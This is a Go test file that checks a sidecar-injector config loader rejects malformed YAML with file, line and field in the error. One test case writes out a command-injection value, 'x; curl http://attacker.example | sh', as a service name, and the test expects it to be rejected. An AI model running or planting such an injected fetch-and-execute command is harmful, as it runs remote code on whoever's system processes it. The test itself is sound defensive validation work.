package mutate

import (
	"errors"
	"strings"
	"testing"
)

func TestLoadConfigNamesFieldAndLine(t *testing.T) {
	tests := []struct {
		name     string
		yaml     string
		wantLine string // "line N" in the message
		wantText string // the field and the reason
	}{
		{"a negative UID is rejected", "sidecar:\n  image: x\n  uid: -5\n", "line 3", "sidecar.uid"},
		{"an unknown field is a typo, not a default", "sidecar:\n  imag: envoy\n", "line 2", `unknown field "sidecar.imag"`},
		{"field names are case-sensitive, as in the API server", "spread:\n  maxskew: 2\n", "line 2", `unknown field "spread.maxskew"`},
		{"an unknown field in a list names its index", "serviceLabels: [app]\nsidecar:\n  resources:\n    limts: {}\n", "line 4", `unknown field "sidecar.resources.limts"`},
		{"a bad native sidecar mode lists the choices", "sidecar:\n  nativeSidecar: maybe\n", "line 2", `sidecar.nativeSidecar: Unsupported value: "maybe"`},
		{"a log level Envoy lacks is rejected", "sidecar:\n  logLevel: verbose\n", "line 2", "sidecar.logLevel"},
		{"a request above its limit is rejected", "sidecar:\n  resources:\n    requests: {memory: 1Gi}\n    limits: {memory: 128Mi}\n", "line 3", "sidecar.resources.requests[memory]"},
		{"a port out of range is rejected", "sidecar:\n  controlPlane:\n    port: 70000\n", "line 3", "sidecar.controlPlane.port"},
		{"a control-plane address with a scheme is rejected", "sidecar:\n  controlPlane:\n    address: http://xds\n", "line 3", "sidecar.controlPlane.address"},
		{"admin and health on one port are rejected", "sidecar:\n  adminPort: 15000\n  healthPort: 15000\n", "line 3", "sidecar.healthPort"},
		{"a negative min cluster size is rejected", "xds:\n  minClusterSize: -1\n", "line 2", "xds.minClusterSize"},
		{"a huge min cluster size is rejected", "ddsd: {}\nxds:\n  minClusterSize: 99999999999\n", "line 3", "xds.minClusterSize"},
		{"the outbound listener on the admin port is rejected", "sidecar:\n  outboundPort: 15000\n", "line 2", "sidecar.outboundPort"},
		{"inbound and outbound on one port are rejected", "sidecar:\n  outboundPort: 16000\n  inboundPort: 16000\n", "line 3", "sidecar.inboundPort"},
		{"an inbound port out of range is rejected", "sidecar:\n  inboundPort: 0x10000\n", "line 2", "sidecar.inboundPort"},
		{"a zone env name that is not an env var name is rejected", "zoneEnv:\n  name: 1ZONE\n", "line 2", "zoneEnv.name"},
		{"an unknown zone source is rejected", "zoneEnv:\n  source: node\n", "line 2", "zoneEnv.source"},
		{"maxSkew below 1 is rejected", "spread:\n  maxSkew: -1\n", "line 2", "spread.maxSkew"},
		{"a selector key in matchLabelKeys is rejected", "spread:\n  matchLabelKeys: [app]\n", "line 2", "spread.matchLabelKeys[0]"},
		{"a template without {service} is rejected", "ddsd:\n  nameTemplate: x.{env}.ddsd\n", "line 2", "ddsd.nameTemplate"},
		{"an unknown placeholder is rejected", "ddsd:\n  nameTemplate: '{service}.{cluster}'\n", "line 2", "unknown placeholder {cluster}"},
		{"a non-ELB hostname in the map is rejected", "ddsd:\n  elbs:\n    api.example.com: api\n", "line 3", "ddsd.elbs[api.example.com]"},
		{"an invalid service name in the map is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: Not_Valid\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
		{"a shell command as the service name is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: 'x; curl http://attacker.example | sh'\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
		{"a dotted service name is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: evil.example.com\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
		{"YAML that does not parse names its line", "sidecar:\n  image: [\n", "line 2", "yaml"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := LoadConfig([]byte(tt.yaml), "inzone.yaml")
			var ce *ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("err = %v, want a ConfigError", err)
			}
			msg := err.Error()
			if !strings.Contains(msg, "inzone.yaml") || !strings.Contains(msg, tt.wantLine) || !strings.Contains(msg, tt.wantText) {
				t.Errorf("error does not name file, %q and %q:\n%s", tt.wantLine, tt.wantText, msg)
			}
		})
	}
}

func TestLoadConfigDefaultsAndKeepsValues(t *testing.T) {
	c, err := LoadConfig([]byte("sidecar:\n  uid: 2000\nddsd:\n  env: staging\n"), "x")
	if err != nil {
		t.Fatal(err)
	}
	if c.Sidecar.UID != 2000 || c.DDSD.Env != "staging" {
		t.Errorf("values not kept: uid %d env %s", c.Sidecar.UID, c.DDSD.Env)
	}
	if c.Sidecar.Image != DefaultProxyImage || c.ZoneEnv.Name != DefaultZoneEnvName || *c.Spread.Enabled != true {
		t.Errorf("defaults not applied: %+v", c)
	}
	empty, err := LoadConfig(nil, "empty")
	if err != nil || empty.ZoneLabel != DefaultZoneLabel {
		t.Errorf("an empty file must give the defaults: %v", err)
	}
}

func TestDDSDNameTemplate(t *testing.T) {
	tests := []struct {
		tmpl, want string
	}{
		{"{service}.service.{env}.ddsd", "orders.service.prod.ddsd"},
		{"{service}.{namespace}.svc.cluster.local", "orders.shop.svc.cluster.local"},
		{"{Service}", ""}, // placeholders are lower case
	}
	for _, tt := range tests {
		t.Run(tt.tmpl, func(t *testing.T) {
			tmpl, err := parseNameTemplate(tt.tmpl)
			if tt.want == "" {
				if err == nil {
					t.Fatal("want an error")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := tmpl.render("Orders", "shop", "prod"); got != tt.want {
				t.Errorf("render = %q, want %q", got, tt.want)
			}
		})
	}
}
